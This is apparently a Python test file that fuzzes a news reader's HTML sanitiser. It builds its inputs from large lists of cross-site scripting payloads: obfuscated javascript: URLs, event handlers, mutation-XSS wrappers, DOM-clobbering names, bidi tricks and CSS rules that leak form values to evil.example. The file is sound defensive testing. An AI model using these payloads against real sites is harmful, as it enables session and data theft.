# ruff: noqa: E501
"""Techniques of getting active markup past a sanitiser, each combined with places and disguises.

What comes out is read by three parsers that share nothing (html.parser, libxml2, and the sanitiser
itself once more), and looked through as text.
"""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

import pytest

from clashreader.content import Body, policy, to_document, to_html
from clashreader.content.document import pictures, spans_of, walk
from clashreader.content.sanitize import sanitise
from clashreader.model import MediaType

BASE = "https://gazette.example/world/story"
_ALLOWED = {name for names in policy.ATTRIBUTES.values() for name in names}
_ACTIVE = re.compile(
    r"<[^>]*\b(?:on[a-z]+|style|srcset|srcdoc|formaction|action|id|name|ping|poster|background|usemap"
    r"|xlink:href|xmlns|http-equiv|data-[a-z]+)\s*=",
    re.IGNORECASE,
)
_QUOTED = re.compile(r'"[^"]*"')
_HIDDEN = re.compile("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\u202d\u202e]")

HANDLERS = (
    "onerror",
    "onload",
    "ONMOUSEOVER",
    "onpointerenter",
    "onanimationstart",
    "onbeforetoggle",
    "onfocusin",
    "onx",
)
SEPARATORS = (" ", "/", "\t", "\n", "\r\n", "\x0c", " / ", '"', "\x00 ", " x=y ")
HOLDERS = (
    "p",
    "a",
    "img src=x",
    "svg",
    "math",
    "video",
    "details open",
    "body",
    "x-own",
    "input autofocus",
    "marquee",
    "svg/onload=1",
    "iframe",
)
URLS = (
    "javascript:steal()", "JaVaScRiPt:steal()", "java\tscript:steal()", "java\nscript:steal()", "java&Tab;script:steal()",
    "java&NewLine;script:steal()", "&#x6a;avascript:steal()", "&#0000106avascript:steal()", "javascript&colon;steal()",
    "javascript&#58;steal()", " javascript:steal()", "\x01javascript:steal()", "\x1fjavascript:steal()", "\x7fjavascript:steal()",
    "\xa0javascript:steal()", "\u2028javascript:steal()", "\ufeffjavascript:steal()", "\u200djavascript:steal()", "\x00javascript:steal()",
    "vbscript:steal", "livescript:steal()", "mocha:steal()", "data:text/html;base64,PHNjcmlwdD4=", "data:text/html,<b>x</b>",
    "data:image/svg+xml,<svg onload=steal()>", "DATA:application/xml,x", "blob:https://gazette.example/1", "filesystem:https://x/1",
    "file:///etc/passwd", "about:blank", "view-source:javascript:1", "feed:javascript:steal()", "jar:https://x!/y", "ms-its:x", "mhtml:x!y",
    "res://x", "intent://x#Intent;end", "tel:javascript", "https:javascript:steal()", "http://[javascript:1]/", "javascript://%0asteal()",
    "\\\\evil.example\\share", "chrome://settings", "wyciwyg://1/x", "ws://x", "ftp://x.example/y", "sms:1", "cid:1", "mid:1", "x:y",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}">', '<img srcset="{} 2x, {} 3x">', '<img data-src="{}">',
    '<picture><source srcset="{}"><img></picture>', '<iframe src="{}"></iframe>', '<video src="{}" poster="{}"></video>', '<embed src="{}">',
    '<object data="{}"><param name=movie value="{}"></object>', '<form action="{}"><button formaction="{}">x</button></form>',
    '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>', '<del cite="{}">x</del>', '<table background="{}"><td background="{}">x',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<svg><use href="{}"/></svg>', '<svg><image href="{}"/></svg>',
    '<svg><animate attributeName=href values="{}"/></svg>', '<svg><set attributeName=href to="{}"/></svg>', '<math href="{}">x</math>',
    '<math><maction actiontype="statusline#{}" xlink:href="{}">x</maction></math>', '<map name=m><area href="{}"></map><img usemap=#m src=/x.png>',
    '<base href="{}"><a href="x">y</a>', '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<bgsound src="{}">', '<input type=image src="{}">', '<isindex action="{}">', '<img lowsrc="{}" dynsrc="{}">', '<layer src="{}">',
    '<frameset><frame src="{}"></frameset>', '<a href="https://x.example" ping="{}">x</a>', '<portal src="{}"></portal>', '<track src="{}">',
    '<p style="background:url({})">x</p>', '<div itemprop=image itemscope itemid="{}">x</div>', '<amp-img src="{}"></amp-img>',
)  # fmt: skip
STYLES = (
    "background:url(https://evil.example/?q)", "width:expression(steal())", "-moz-binding:url(//evil.example/x.xml#y)", "position:fixed;inset:0",
    "behavior:url(#default#time2)", "@import url(//evil.example/x.css)", "content:attr(value)", "background:\\75rl(//evil.example)",
    "font-family:'x',url(//evil.example/f.woff)", "list-style-image:url(//evil.example)", "display:block;opacity:0;z-index:9999",
)  # fmt: skip
WRAPPED = (
    # Re-read differently: what a first parser takes for text becomes markup for the next.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>", "<svg></p><style><a id='</style>{}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<math><annotation-xml encoding='text/html'><style><!--</style>{}-->",
    "<noscript><style></noscript>{}</style>", "<svg><style>&lt;/style&gt;{}</style></svg>", "<select><noembed></select>{}</noembed>",
    "<table><caption><svg><desc><table><caption></table><style>{}</style>", "<svg><title><style><a title='</style>{}'></title></svg>",
    "<xmp><a title='</xmp>{}'></xmp>", "<listing>&lt;x{}</listing>", "<noframes><a title='</noframes>{}'></noframes>",
    "<template shadowrootmode=open>{}</template>", "<textarea>&lt;/textarea>{}</textarea>", "<plaintext>{}", "<title>{}</title>",
    "<!--[if IE]>{}<![endif]-->", "<!-- --!>{}-->", "<!-->{}", "<!--->{}", "<!a='>{}'>", "<?php {} ?>", "</br {}>", "<![CDATA[{}]]>",
    "<svg><![CDATA[><{}]]></svg>", "<!DOCTYPE x [<!ENTITY y '{}'>]>&y;", "<%{}%>", "</x {}>", "<a title='>{}'", "<p title=\"`'>{}\">",
    "<b title='&quot;>{}'>x</b>", "<img alt='`>{}'>", "<abbr title=\"</abbr>{}\">x</abbr>", "<pre>\n\n{}</pre>", "<div " + "a" * 4096 + ">{}",
    "<b>" * 250 + "{}", "<table>" * 40 + "{}", "<x:y xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:y>", "&lt;{}&gt;", "+ADw-script+AD4-{}",
    "<iframe srcdoc='{}'></iframe>", "<object>{}</object>", "<canvas>{}</canvas>", "<dialog open>{}</dialog>", "<menu type=context>{}</menu>",
    "<frameset>{}", "<colgroup>{}", "<optgroup>{}", "<ruby><rt>{}<rp>", "<button popovertarget=x>{}</button>", "<slot name=x>{}</slot>",
)  # fmt: skip
CORES = (
    "<script>steal()</script>", "<img src=x onerror=steal()>", "<svg onload=steal()>", "<a href=javascript:steal()>x</a>", "<style>*{color:red}</style>",
    "<iframe srcdoc='<script>steal()</script>'>", "<base href=//evil.example>", "<p id=cookie name=body style=position:fixed>x</p>",
)  # fmt: skip
NAMES = (
    "attributes",
    "body",
    "cookie",
    "createElement",
    "domain",
    "forms",
    "getElementById",
    "innerHTML",
    "location",
    "nodeName",
    "parentNode",
    "__proto__",
)


class Audit(HTMLParser):
    """Collects tags and attributes as the standard library reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements_of(html: str) -> list[tuple[str, dict[str, str]]]:
    from lxml import etree

    root = etree.fromstring(f"<div>{html}</div>", etree.HTMLParser(encoding="utf-8"))
    nodes = [] if root is None else [node for node in root.iter() if isinstance(node.tag, str)]
    read = [(str(node.tag), {str(k): str(v) for k, v in node.attrib.items()}) for node in nodes]
    return Audit(html).found + [one for one in read if one[0] not in ("html", "body")]


def assert_inert(html: str) -> None:
    for tag, attributes in elements_of(html):
        assert tag in policy.TAGS, (tag, html)
        for name, value in attributes.items():
            assert name in _ALLOWED, (tag, name, html)
            if name in ("href", "src"):
                assert re.match(r"https?://[^\s]|mailto:", value), (value, html)
            if name == "class":
                assert value.startswith("language-")
    assert not _ACTIVE.search(_QUOTED.sub('""', html)), html
    assert not _HIDDEN.search(html), html
    assert "<!--" not in html
    assert "<?" not in html


def check(payloads: list[str]) -> None:
    for number, payload in enumerate(payloads):
        base = BASE if number % 4 else None
        clean = sanitise(payload, base)
        assert_inert(clean)
        assert sanitise(clean, base) == clean, payload


def test_no_handler_comes_through() -> None:
    check([f"<{holder}{separator}{handler}=steal()>x</{holder.split()[0]}>" for holder, separator, handler
           in itertools.product(HOLDERS, SEPARATORS, HANDLERS[:3])])  # fmt: skip
    check(
        [
            f"<p {handler}{equals}steal()>x"
            for handler in HANDLERS
            for equals in ("=", " = ", "\n=\n", "='x' ", "=`x`")
        ]
    )


@pytest.mark.parametrize("carrier", CARRIERS)
def test_no_address_that_acts_comes_through(carrier: str) -> None:
    check([carrier.replace("{}", url) for url in URLS])


@pytest.mark.parametrize("wrapper", WRAPPED)
def test_nothing_comes_to_life_when_it_is_read_again(wrapper: str) -> None:
    escaped = [core.replace("<", "&lt;").replace(">", "&gt;") for core in CORES]
    check([wrapper.replace("{}", core) for core in (*CORES, *escaped)])


def test_no_style_no_name_and_no_field_comes_through() -> None:
    check(
        [
            f"<p style=\"{style}\">x</p><style>p{{{style}}}</style><font style='{style}'>x</font>"
            for style in STYLES
        ]
    )
    check(
        [
            f'<img name={name} id="{name}" src=/x.png><form id={name}><input name={name} value=x></form><a name={name}>x</a>'
            for name in NAMES
        ]
    )
    check(["<input value=secret><style>input[value^=a]{background:url(//evil.example/a)}</style>", "<select><option>x</select><textarea>y</textarea>",
           "<button type=submit form=f>x</button><label for=f>y</label><output>z</output><keygen><datalist><option>q"])  # fmt: skip


def test_nobody_sees_a_text_in_another_order_than_it_is_written() -> None:
    check(["good\u202egpj.exe", "&#x202e;good&#8237;", "<a href=https://x.example>\u202etxt</a>", "<img src=/x.png alt='a\u202eb'>",
           "<abbr title='&#x202d;x'>y</abbr>", "a\x01b\x7fc\x9bd", "&#1;&#x7f;&#x9b;", "<pre>a\x1b[31mb</pre>", "<bdo dir=rtl>abc</bdo>"])  # fmt: skip
    assert sanitise("good\u202egpj") == "goodgpj"
    assert (
        sanitise("<p>\u05d0 \u2067abc\u2069 \u200f!</p>") == "<p>\u05d0 \u2067abc\u2069 \u200f!</p>"
    )


@pytest.mark.parametrize(
    "kind", [MediaType.HTML, MediaType.PAGE, MediaType.MARKDOWN, MediaType.TEXT]
)
def test_what_is_shown_leads_to_the_web_only_whatever_the_body_is(kind: MediaType) -> None:
    parts = [wrapper.replace("{}", CORES[1]) for wrapper in WRAPPED if "plaintext" not in wrapper]
    parts += [
        carrier.replace("{}", url)
        for carrier, url in zip(CARRIERS, itertools.cycle(URLS), strict=False)
    ]
    parts += [f"[x]({url}) ![y]({url}) <{url}>" for url in URLS]
    # A page is taken apart by an extractor first, which takes its time.
    for part in parts[:: 5 if kind is MediaType.PAGE else 1]:
        body = Body(part, kind, BASE, title="Story")
        assert_inert(to_html(body))
        document = to_document(body)
        assert all(re.match(r"https?://", url) for url in pictures(document)), part
        for block in walk(document.blocks):
            for span in spans_of(block):
                assert span.link is None or re.match(r"https?://|mailto:|#at-\d", span.link), part
                assert not _HIDDEN.search(span.text), part
